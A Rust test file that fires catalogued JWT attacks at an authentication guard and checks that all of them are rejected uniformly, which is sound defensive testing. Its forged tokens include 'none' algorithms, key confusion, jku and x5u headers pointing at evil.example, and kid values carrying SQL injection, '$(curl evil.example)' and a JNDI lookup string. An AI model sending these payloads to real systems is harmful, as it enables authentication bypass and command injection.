//! What the public playbooks of attacks on JWTs try, all of it through the guard: only the token as it was issued is
//! answered with 200, and whatever else is sent cannot be told from the next by the answer. `named` says which attack of
//! which playbook is which of these.

use std::{collections::BTreeMap, convert::Infallible};

use http::{HeaderValue, Request, Response, StatusCode, header::AUTHORIZATION};
use portcullis::{
    Principal,
    guard::AuthLayer,
    jwt::{Algorithm, JwtVerifier, SigningKey},
};
use serde_json::{Value, json};
use tower::{Layer, ServiceExt, service_fn};

use super::{
    algorithms::forms,
    named::injections,
    support::{ALL, claims, claims_with, encode, header, header_with, hmac_with, key, ring, seal, token, verifier},
};

/// An attack by its name, and the credential that it sends.
pub(crate) type Attack = (String, Vec<u8>);

#[tokio::test]
async fn only_the_token_as_it_was_issued_is_let_in() {
    for algorithm in ALL {
        let guard = AuthLayer::new(verifier(ring(algorithm)));
        let good = good(algorithm);
        assert_eq!(answer(&guard, good.as_bytes()).await, Some((StatusCode::OK, "u1".to_owned())), "{algorithm}");

        let mut answers = BTreeMap::new();
        for (name, credential) in plays(algorithm) {
            assert_ne!(credential, good.as_bytes(), "{algorithm} {name} is no attack");
            // What no header can hold does not come this far.
            let Some((status, body)) = answer(&guard, &credential).await else { continue };
            assert!(
                matches!(status, StatusCode::UNAUTHORIZED | StatusCode::BAD_REQUEST),
                "{algorithm} {name}: {status} {body}"
            );
            assert_eq!(answers.entry(status).or_insert_with(|| body.clone()), &body, "{algorithm} {name}");
        }
        assert_eq!(answers.len(), 2, "400 where the header cannot be read, 401 where the token is no good");
    }
}

/// Every attack on a guard whose key is of this algorithm.
pub(crate) fn plays(algorithm: Algorithm) -> Vec<Attack> {
    let plays = [
        unsigned(algorithm),
        guessed_secrets(algorithm),
        key_confusion(algorithm),
        keys_brought_along(algorithm),
        ids_of_keys(algorithm),
        odd_signatures(algorithm),
        other_algorithms(algorithm),
        changed_claims(algorithm),
        two_readings(algorithm),
        other_containers(algorithm),
        extensions(algorithm),
        other_spellings(algorithm),
        sizes(algorithm),
        injections(algorithm),
    ];
    plays.into_iter().flatten().collect()
}

/// What the guard answers to this after `Bearer `, and who it was taken for; none if no header can hold it.
pub(crate) async fn answer(guard: &AuthLayer<JwtVerifier>, credential: &[u8]) -> Option<(StatusCode, String)> {
    let value = HeaderValue::from_bytes(&[b"Bearer ", credential].concat()).ok()?;
    let inner = service_fn(async |request: Request<String>| {
        let caller = request.extensions().get::<Principal>().map_or("nobody", Principal::id);
        Ok::<_, Infallible>(Response::new(caller.to_owned()))
    });
    let request = Request::get("/").header(AUTHORIZATION, value).body(String::new()).unwrap();
    let response = guard.layer(inner).oneshot(request).await.unwrap();
    Some((response.status(), response.into_body()))
}

pub(crate) fn good(algorithm: Algorithm) -> String {
    token(key(algorithm), &header(key(algorithm)).to_string(), &claims().to_string())
}

/// Header, claims and signature of the good token.
pub(crate) fn parts(algorithm: Algorithm) -> [String; 3] {
    good(algorithm).split('.').map(str::to_owned).collect::<Vec<_>>().try_into().unwrap()
}

fn admin() -> String {
    encode(claims_with("sub", json!("root")))
}

pub(crate) fn attacks<N: ToString, T: Into<Vec<u8>>>(
    play: &str,
    each: impl IntoIterator<Item = (N, T)>,
) -> Vec<Attack> {
    each.into_iter().map(|(name, credential)| (format!("{play}: {}", name.to_string()), credential.into())).collect()
}

fn unsigned(algorithm: Algorithm) -> Vec<Attack> {
    let [header, claims, signature] = parts(algorithm);
    let mut tokens =
        vec![format!("{header}.{claims}."), format!("{header}.{claims}"), format!("{header}.{}.", admin())];
    for name in ["none", "None", "NONE", "nOnE", "NoNe", "none ", " none", "", "null", "undefined", "n\u{0}one"] {
        let header = encode(header_with(key(algorithm), "alg", json!(name)));
        let junk = encode("junk");
        for signature in ["", &signature, &junk, "AA"] {
            tokens.push(format!("{header}.{}.{signature}", admin()));
        }
        tokens.push(format!("{header}.{}", admin()));
    }
    for alg in [json!(null), json!(false), json!(0), json!([]), json!(["none"]), json!({})] {
        tokens.push(format!("{}.{claims}.", encode(header_with(key(algorithm), "alg", alg))));
    }
    attacks("unsigned", tokens.into_iter().enumerate())
}

/// A token for the administrator, signed with this secret, under each of these headers.
fn signed_with(secret: &[u8], headers: impl IntoIterator<Item = String>) -> Vec<String> {
    let sign = |header| {
        let segments = format!("{}.{}", encode(header), admin());
        format!("{segments}.{}", encode(hmac_with(secret, segments.as_bytes())))
    };
    headers.into_iter().map(sign).collect()
}

fn guessed_secrets(algorithm: Algorithm) -> Vec<Attack> {
    let secrets: [&[u8]; 9] =
        [b"", b"\0", &[0; 32], &[0; 64], b"secret", b"password", b"your-256-bit-secret", b"null", b"undefined"];
    let header = header_with(key(algorithm), "alg", json!("HS256"));
    attacks("guessed", secrets.iter().flat_map(|secret| signed_with(secret, [header.clone()])).enumerate())
}

fn key_confusion(algorithm: Algorithm) -> Vec<Attack> {
    let Some(jwk) = key(algorithm).verifying_key().public_jwk() else { return Vec::new() };
    let headers =
        || ["HS256", "HS384", "HS512", algorithm.as_str()].map(|name| header_with(key(algorithm), "alg", json!(name)));
    attacks("confusion", forms(&jwk).iter().flat_map(|form| signed_with(form, headers())).enumerate())
}

fn keys_brought_along(algorithm: Algorithm) -> Vec<Attack> {
    // A key of another pair will do whatever the real one is: for none of them may it be looked at.
    let forger = SigningKey::generate(Algorithm::Es256).unwrap();
    let jwk = forger.verifying_key().public_jwk().unwrap();
    let members = [
        ("jwk", jwk.clone()),
        ("jwk", json!({ "kty": "oct", "k": "" })),
        ("jku", json!("https://evil.example/keys.json")),
        ("jku", json!("https://id.example@evil.example/keys.json")),
        ("jku", json!("file:///dev/null")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIBszCCAVmgAwIBAgIU"])),
        ("keys", json!([jwk])),
    ];
    let each = members.into_iter().flat_map(|(name, value)| {
        [key(algorithm).kid(), forger.kid()].map(|kid| {
            let header = json!({ "typ": "at+jwt", "alg": "ES256", "kid": kid, (name): value });
            (name, token(&forger, &header.to_string(), &claims().to_string()))
        })
    });
    attacks("brought along", each)
}

fn ids_of_keys(algorithm: Algorithm) -> Vec<Attack> {
    let ids = [
        "../../../../../../dev/null",
        "/dev/null",
        "file:///proc/sys/kernel/randomize_va_space",
        "C:\\Windows\\win.ini",
        "x' UNION SELECT 'secret';--",
        "' OR '1'='1",
        "|sleep 10",
        "$(curl evil.example)",
        "`id`",
        "${jndi:ldap://evil.example/x}",
        "https://evil.example/key",
        "\u{0}",
        "",
    ];
    let forged = ids.into_iter().flat_map(|id| {
        let header = json!({ "typ": "at+jwt", "alg": "HS256", "kid": id }).to_string();
        let contents: [&[u8]; 4] = [b"", b"secret", b"2\n", b"1"];
        let mut tokens: Vec<_> = contents.iter().flat_map(|secret| signed_with(secret, [header.clone()])).collect();
        tokens.push(token(key(algorithm), &header_with(key(algorithm), "kid", json!(id)), &claims().to_string()));
        tokens.into_iter().map(move |token| (id, token))
    });
    attacks("kid", forged)
}

fn odd_signatures(algorithm: Algorithm) -> Vec<Attack> {
    let [header, claims, signature] = parts(algorithm);
    let other = token(key(algorithm), &super::support::header(key(algorithm)).to_string(), &claims_with("x", json!(1)));
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order: Vec<_> = (0..32).map(|at| u8::from_str_radix(&order[2 * at..2 * at + 2], 16).unwrap()).collect();
    let mut one = [0; 32];
    one[31] = 1;
    let signatures = [
        ("zero", encode([0; 64])),
        ("zero, in DER", encode([0x30, 6, 2, 1, 0, 2, 1, 0])),
        ("the order", encode([order.clone(), order.clone()].concat())),
        ("one and the order", encode([one.to_vec(), order].concat())),
        ("all ones", encode([0xff; 64])),
        ("zero, as long as RSA", encode([0; 384])),
        ("32 zeros", encode([0; 32])),
        ("of another token", other.rsplit_once('.').unwrap().1.to_owned()),
        ("short", signature[..signature.len() - 4].to_owned()),
        ("long", format!("{signature}AAAA")),
        ("twice", format!("{signature}{signature}")),
    ];
    attacks("signature", signatures.map(|(name, signature)| (name, format!("{header}.{claims}.{signature}"))))
}

fn other_algorithms(algorithm: Algorithm) -> Vec<Attack> {
    let names = [
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "Ed448",
        "RSA-OAEP",
        "dir",
        "A256GCM",
        "PBES2-HS256+A128KW",
    ];
    let others = names.into_iter().filter(|name| *name != algorithm.as_str());
    attacks(
        "algorithm",
        others.map(|name| {
            (name, token(key(algorithm), &header_with(key(algorithm), "alg", json!(name)), &claims().to_string()))
        }),
    )
}

/// With the signature of the good token; and rightly signed, but not what this service may accept.
fn changed_claims(algorithm: Algorithm) -> Vec<Attack> {
    let [header, _, signature] = parts(algorithm);
    let changes: [(&str, Value); 12] = [
        ("sub", json!("root")),
        ("exp", json!(9_999_999_999_i64)),
        ("exp", json!(0)),
        ("exp", json!("1800000900")),
        ("iss", json!("https://evil.example")),
        ("iss", json!(["https://evil.example", "https://id.example"])),
        ("aud", json!("another")),
        ("aud", json!([])),
        ("nbf", json!(1_900_000_000)),
        ("iat", json!(1_900_000_000)),
        ("scope", json!(["admin"])),
        ("roles", json!("admin")),
    ];
    let tampered = |name, value: &Value| format!("{header}.{}.{signature}", encode(claims_with(name, value.clone())));
    let mut all: Vec<_> = changes.iter().map(|(name, value)| (*name, tampered(name, value))).collect();
    let issued = |claims: String| token(key(algorithm), &super::support::header(key(algorithm)).to_string(), &claims);
    all.extend(changes.iter().skip(1).map(|(name, value)| (*name, issued(claims_with(name, value.clone())))));
    for name in ["exp", "iat", "iss", "aud", "sub"] {
        let mut less = claims();
        less.as_object_mut().unwrap().remove(name);
        all.push((name, issued(less.to_string())));
    }
    attacks("claims", all)
}

/// What two readers of JSON would read differently, rightly signed.
fn two_readings(algorithm: Algorithm) -> Vec<Attack> {
    let (header, claims) = (header(key(algorithm)).to_string(), claims().to_string());
    let longer = |json: &str, member: &str| format!("{},{member}}}", json.strip_suffix('}').unwrap());
    let headers =
        [r#""alg":"none""#, r#""\u0061lg":"none""#, r#""typ":"JWT""#, r#""\u006bid":"x""#, r#""x":1,"\u0078":2"#];
    let members = [
        r#""sub":"root""#,
        r#""\u0073ub":"root""#,
        r#""s\u0075b":"root""#,
        r#""exp":9999999999"#,
        r#""x":{"y":1,"y":2}"#,
    ];
    let tokens = headers.map(|member| token(key(algorithm), &longer(&header, member), &claims));
    let more = members.map(|member| token(key(algorithm), &header, &longer(&claims, member)));
    let junk = ["\u{feff}", " \u{a0}", "\0", "//\n", "[]"];
    let before = junk.map(|junk| token(key(algorithm), &format!("{junk}{header}"), &claims));
    let after = junk.map(|junk| token(key(algorithm), &header, &format!("{claims}{junk}x")));
    attacks("readings", tokens.into_iter().chain(more).chain(before).chain(after).enumerate())
}

fn other_containers(algorithm: Algorithm) -> Vec<Attack> {
    let [header, claims, signature] = parts(algorithm);
    let good = good(algorithm);
    let nested = |kind: Value| token(key(algorithm), &header_with(key(algorithm), "cty", kind), &good);
    let tokens = [
        ("flattened JSON", json!({ "protected": header, "payload": claims, "signature": signature }).to_string()),
        (
            "general JSON",
            json!({ "payload": claims, "signatures": [{ "protected": header, "signature": signature }] }).to_string(),
        ),
        ("JSON around the dots", format!("{{\"a\":\"{header}.{claims}.{signature}\"}}")),
        ("nested", nested(json!("JWT"))),
        ("nested, in small letters", nested(json!("jwt"))),
        ("nested, without saying so", seal(key(algorithm), &format!("{header}.{}", encode(&good)))),
        ("encrypted", format!("{}.{}.{}.{}.{}", encode(r#"{"alg":"dir","enc":"A256GCM"}"#), "", "AA", claims, "AA")),
        ("detached", format!("{header}..{signature}")),
        ("twice", format!("{good}.{good}")),
        ("encoded once more", encode(&good)),
    ];
    attacks("container", tokens)
}

/// Members of the header that would change what the token means, rightly signed.
fn extensions(algorithm: Algorithm) -> Vec<Attack> {
    let members = [
        ("crit", json!(["b64"])),
        ("crit", json!([])),
        ("crit", json!(["exp"])),
        ("crit", json!(["x"])),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("typ", json!("JWT")),
        ("typ", json!("refresh+jwt")),
        ("typ", json!(null)),
    ];
    let with =
        |(name, value)| (name, token(key(algorithm), &header_with(key(algorithm), name, value), &claims().to_string()));
    attacks("extension", members.map(with))
}

fn other_spellings(algorithm: Algorithm) -> Vec<Attack> {
    let good = good(algorithm);
    let [header, claims, signature] = parts(algorithm);
    let spelled = [
        format!(" {good} "),
        format!("{good}\t"),
        format!("{good}\r\n"),
        format!("{good}\u{feff}"),
        format!("\u{feff}{good}"),
        format!("{good}\u{a0}"),
        format!("{good}\0"),
        format!("{good}="),
        format!("{header}=.{claims}.{signature}"),
        format!("{header}. {claims}.{signature}"),
        format!("{header}.{claims}\n.{signature}"),
        format!("{header}.{claims}.{signature}."),
        format!(".{good}"),
        format!("{good},{good}"),
        format!("{good}, {good}"),
        format!("\"{good}\""),
        format!("Bearer {good}"),
        format!("token={good}"),
        good.replace('.', "%2E"),
        good.replace('.', "\u{2e}\u{200b}"),
        good.to_uppercase(),
        good.to_lowercase(),
        // A letter outside the alphabet that a lenient decoder drops.
        format!("{header}.{claims}.{signature}!"),
        format!("{header}.{claims}.+{signature}"),
    ];
    attacks("spelling", spelled.into_iter().enumerate())
}

fn sizes(algorithm: Algorithm) -> Vec<Attack> {
    let signed = |header: &str, claims: &str| token(key(algorithm), header, claims);
    let header = header(key(algorithm)).to_string();
    let deep = |open: &str| format!("{{\"x\":{}", open.repeat(1500));
    let tokens = [
        ("large claims", signed(&header, &claims_with("x", json!("x".repeat(64 * 1024))))),
        (
            "large header",
            signed(&header_with(key(algorithm), "x", json!("x".repeat(64 * 1024))), &claims().to_string()),
        ),
        ("large nonsense", "A".repeat(1 << 20)),
        ("many dots", ".".repeat(8000)),
        ("deep claims", signed(&header, &deep("["))),
        ("deep claims of objects", signed(&header, &deep("{\"a\":"))),
        ("deep header", signed(&deep("["), &claims().to_string())),
        ("a number of many digits", signed(&header, &claims().to_string().replace("1800000900", &"9".repeat(4000)))),
        ("nothing", String::new()),
    ];
    attacks("size", tokens)
}
